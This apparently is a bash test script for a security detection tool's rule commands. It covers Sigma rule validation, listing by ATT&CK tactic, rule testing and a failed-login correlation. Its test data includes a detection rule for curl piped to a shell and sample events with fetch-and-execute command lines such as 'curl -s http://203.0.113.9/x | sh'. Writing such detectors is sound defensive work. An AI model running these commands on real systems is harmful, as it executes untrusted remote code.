#!/usr/bin/env bash
# `seerflow rules validate|list|test` as a rule author uses them: verdicts with reasons and exit
# codes, filtered listing of the bundled rules, grep-like testing of a rule against JSON events
# including a correlation.
source "$(dirname "$0")/lib.sh"
S=$SEERFLOW
REPO=$(cd "$(dirname "$0")/../.." && pwd)

# Every bundled rule loads.
"$S" rules validate "$REPO/rules/sigma" > "$WORK/v.out" 2> "$WORK/v.err" || fail "bundled rules: $(cat "$WORK/v.err")"
grep -q "^ok " "$WORK/v.out" || fail "no verdicts printed"

# A broken rule next to a good one: the good one loads, the bad one is named with its reason.
mkdir -p "$WORK/mixed"
cat > "$WORK/mixed/good.yml" <<'YAML'
title: Curl piped to a shell
id: 11111111-1111-4111-8111-111111111111
author: test
level: high
tags: [attack.execution, attack.t1059.004]
logsource: {product: linux, category: process_creation}
detection:
  sel:
    CommandLine|contains|all: ['curl ', '| sh']
  condition: sel
YAML
cat > "$WORK/mixed/bad.yml" <<'YAML'
title: Uses an unknown modifier
id: 22222222-2222-4222-8222-222222222222
logsource: {product: linux}
detection:
  sel:
    CommandLine|frobnicate: x
  condition: sel
YAML
set +e
"$S" rules validate "$WORK/mixed" --json > "$WORK/m.out" 2> /dev/null; rc=$?
set -e
expect_eq "validate exit with a rejection" "$rc" 1
python3 - "$WORK/m.out" <<'PY' || fail "validate --json verdicts: $(cat "$WORK/m.out")"
import json, sys
v = {d["id"]: d for d in map(json.loads, open(sys.argv[1]))}
assert v["11111111-1111-4111-8111-111111111111"]["verdict"] == "loaded"
bad = v["22222222-2222-4222-8222-222222222222"]
assert bad["verdict"] == "rejected" and "frobnicate" in bad["reason"], bad
PY

# Listing, filtered by tactic and technique.
n=$("$S" rules list --tactic credential_access --json 2> /dev/null | wc -l)
[[ "$n" -ge 10 ]] || fail "credential-access rules listed: $n"
"$S" rules list --technique T1110 --json 2> /dev/null | python3 -c '
import json, sys
rows = [json.loads(l) for l in sys.stdin]
assert rows and all(any(t.startswith("T1110") for t in r["techniques"]) for r in rows), rows
' || fail "technique filter"

# rules test: prints the matching events, exit 0; nothing matching, exit 1; rejected, exit 2.
cat > "$WORK/events.jsonl" <<'JSONL'
{"CommandLine": "curl -s http://203.0.113.9/x | sh", "Image": "/usr/bin/curl", "timestamp": "2026-11-21T10:00:00Z"}
{"CommandLine": "curl -O https://example.com/file.tar.gz", "Image": "/usr/bin/curl"}
not json at all
{"CommandLine": "CURL http://x | SH -c id", "nested": {"a": 1}}
JSONL
set +e
"$S" rules test "$WORK/mixed/good.yml" "$WORK/events.jsonl" > "$WORK/t.out" 2> "$WORK/t.err"; rc=$?
set -e
expect_eq "rules test exit" "$rc" 0
expect_eq "matching events" "$(wc -l < "$WORK/t.out")" 2
grep -q "not a JSON object" "$WORK/t.err" || fail "bad line not reported: $(cat "$WORK/t.err")"
printf '{"CommandLine": "ls -la"}\n' > "$WORK/quiet.jsonl"
set +e
"$S" rules test "$WORK/mixed/good.yml" "$WORK/quiet.jsonl" > /dev/null 2>&1; rc=$?
"$S" rules test "$WORK/mixed/bad.yml" "$WORK/quiet.jsonl" > /dev/null 2>&1; rc2=$?
set -e
expect_eq "no match exit" "$rc" 1
expect_eq "rejected rule exit" "$rc2" 2

# A correlation: five failures of one address within a minute.
cat > "$WORK/corr.yml" <<'YAML'
title: Failed login
name: failed_login
id: 33333333-3333-4333-8333-333333333333
logsource: {product: linux, service: sshd}
detection:
  sel: {outcome: failure}
  condition: sel
---
title: Many failures from one address
id: 44444444-4444-4444-8444-444444444444
correlation:
  type: event_count
  rules: [failed_login]
  group-by: [src_ip]
  timespan: 1m
  condition: {gte: 5}
YAML
python3 -c '
for i in range(6):
    print("{\"outcome\": \"failure\", \"src_ip\": \"203.0.113.7\", \"timestamp\": \"2026-11-21T10:00:%02dZ\"}" % (i * 5))
print("{\"outcome\": \"failure\", \"src_ip\": \"198.51.100.1\", \"timestamp\": \"2026-11-21T10:00:31Z\"}")
' > "$WORK/fails.jsonl"
"$S" rules test "$WORK/corr.yml" "$WORK/fails.jsonl" > "$WORK/c.out" 2> /dev/null || fail "correlation test exit"
grep '"correlation"' "$WORK/c.out" | python3 -c '
import json, sys
rows = [json.loads(l) for l in sys.stdin]
assert len(rows) == 1 and rows[0]["group"] == {"src_ip": "203.0.113.7"}, rows
' || fail "correlation result: $(cat "$WORK/c.out")"
echo ok
